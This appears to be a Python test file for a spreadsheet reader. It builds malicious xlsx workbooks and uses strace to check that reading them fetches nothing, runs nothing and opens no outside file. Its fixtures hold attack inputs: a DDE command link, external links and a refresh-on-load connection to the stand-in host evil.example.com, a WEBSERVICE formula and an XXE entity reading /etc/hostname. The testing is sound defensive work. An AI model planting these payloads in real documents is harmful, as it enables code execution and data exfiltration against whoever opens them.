"""What others send reaches nothing outside: watched from below, by the system's own calls."""

import re
import subprocess
import sys
from pathlib import Path

import pytest

from issued import FIGURES, sent
from odd_files import zipped
from patch import parts_of, retyped
from programs import require

ROOT = Path(__file__).parents[1]
HOST = "evil.example.com"
TARGET = "/etc/hostname"
READ = "import sys; from huizong.checking import read_file; read_file(sys.argv[1])"
CALLS = "openat,open,execve,connect,sendto,socket"

LINK = """<?xml version="1.0" encoding="UTF-8"?>
<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<ddeLink ddeService="cmd" ddeTopic="/c touch /tmp/dde"/></externalLink>"""
RELS = f"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" TargetMode="External" Target="file://{TARGET}"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/>
<Relationship Id="rId2" TargetMode="External" Target="http://{HOST}/a.xlsx"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/>
</Relationships>"""
CONNECTION = f"""<?xml version="1.0" encoding="UTF-8"?>
<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<connection id="1" name="网" type="4" refreshedVersion="6" refreshOnLoad="1">
<webPr url="http://{HOST}/data"/></connection></connections>"""
DTD = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{TARGET}">]>'


def linked() -> bytes:
    """A return with links to files and hosts, DDE, a connection that refreshes, and an object."""
    data = retyped(
        sent(), FIGURES, {"D8": "|<f>[1]Sheet1!A1+WEBSERVICE(&quot;http://x&quot;)</f><v>8</v>"}
    )
    more = {
        "xl/externalLinks/externalLink1.xml": LINK,
        "xl/externalLinks/_rels/externalLink1.xml.rels": RELS,
        "xl/connections.xml": CONNECTION,
        "xl/embeddings/oleObject1.bin": "MZ",
        "xl/vbaProject.bin": "Auto_Open",
    }
    return zipped(parts_of(data) | {name: text.encode() for name, text in more.items()})


def with_dtd() -> bytes:
    """A return whose sheet names a file of the machine as an entity."""
    parts = parts_of(sent())
    name = "xl/worksheets/sheet2.xml"
    return zipped({**parts, name: parts[name].replace(b"?>", b"?>" + DTD.encode(), 1)})


def calls(data: bytes, folder: Path) -> str:
    """Read a file as the child processes do, and give the system calls that reach outside."""
    path, log = folder / "return.xlsx", folder / "calls"
    path.write_bytes(data)
    command = [require("strace"), "-f", "-qq", "-e", f"trace={CALLS}", "-o", str(log)]
    command += [sys.executable, "-P", "-c", READ, str(path)]
    subprocess.run(command, check=True, env={"PYTHONPATH": str(ROOT / "src")}, timeout=120)
    return log.read_text(errors="replace")


def reached(log: str) -> list[str]:
    """Say what of a log leaves the process: the network, other programs, the files named inside."""
    lines = [line for line in log.splitlines() if "ENOENT" not in line]
    started = [line for line in lines if "execve(" in line][1:]
    network = [line for line in lines if re.search(r"connect\(|sendto\(|AF_INET", line)]
    return started + network + [line for line in lines if TARGET in line]


@pytest.mark.parametrize("make", [linked, with_dtd])
def test_nothing_in_a_workbook_is_fetched_or_run(make, tmp_path):
    """Fault 25: links, DDE, connections and entities open no connection, program or other file."""
    log = calls(make(), tmp_path)

    assert "return.xlsx" in log
    assert reached(log) == []


def test_a_call_that_leaves_is_seen(tmp_path, monkeypatch):
    """What a workbook must not do is found in the log when a program does it."""
    reach = f"import socket, subprocess; open('{TARGET}'); subprocess.run(['true']);"
    reach += "socket.socket().connect_ex(('127.0.0.1', 9))"
    monkeypatch.setattr(sys.modules[__name__], "READ", reach)

    found = "\n".join(reached(calls(b"", tmp_path)))

    assert all(word in found for word in (TARGET, "execve(", "connect("))
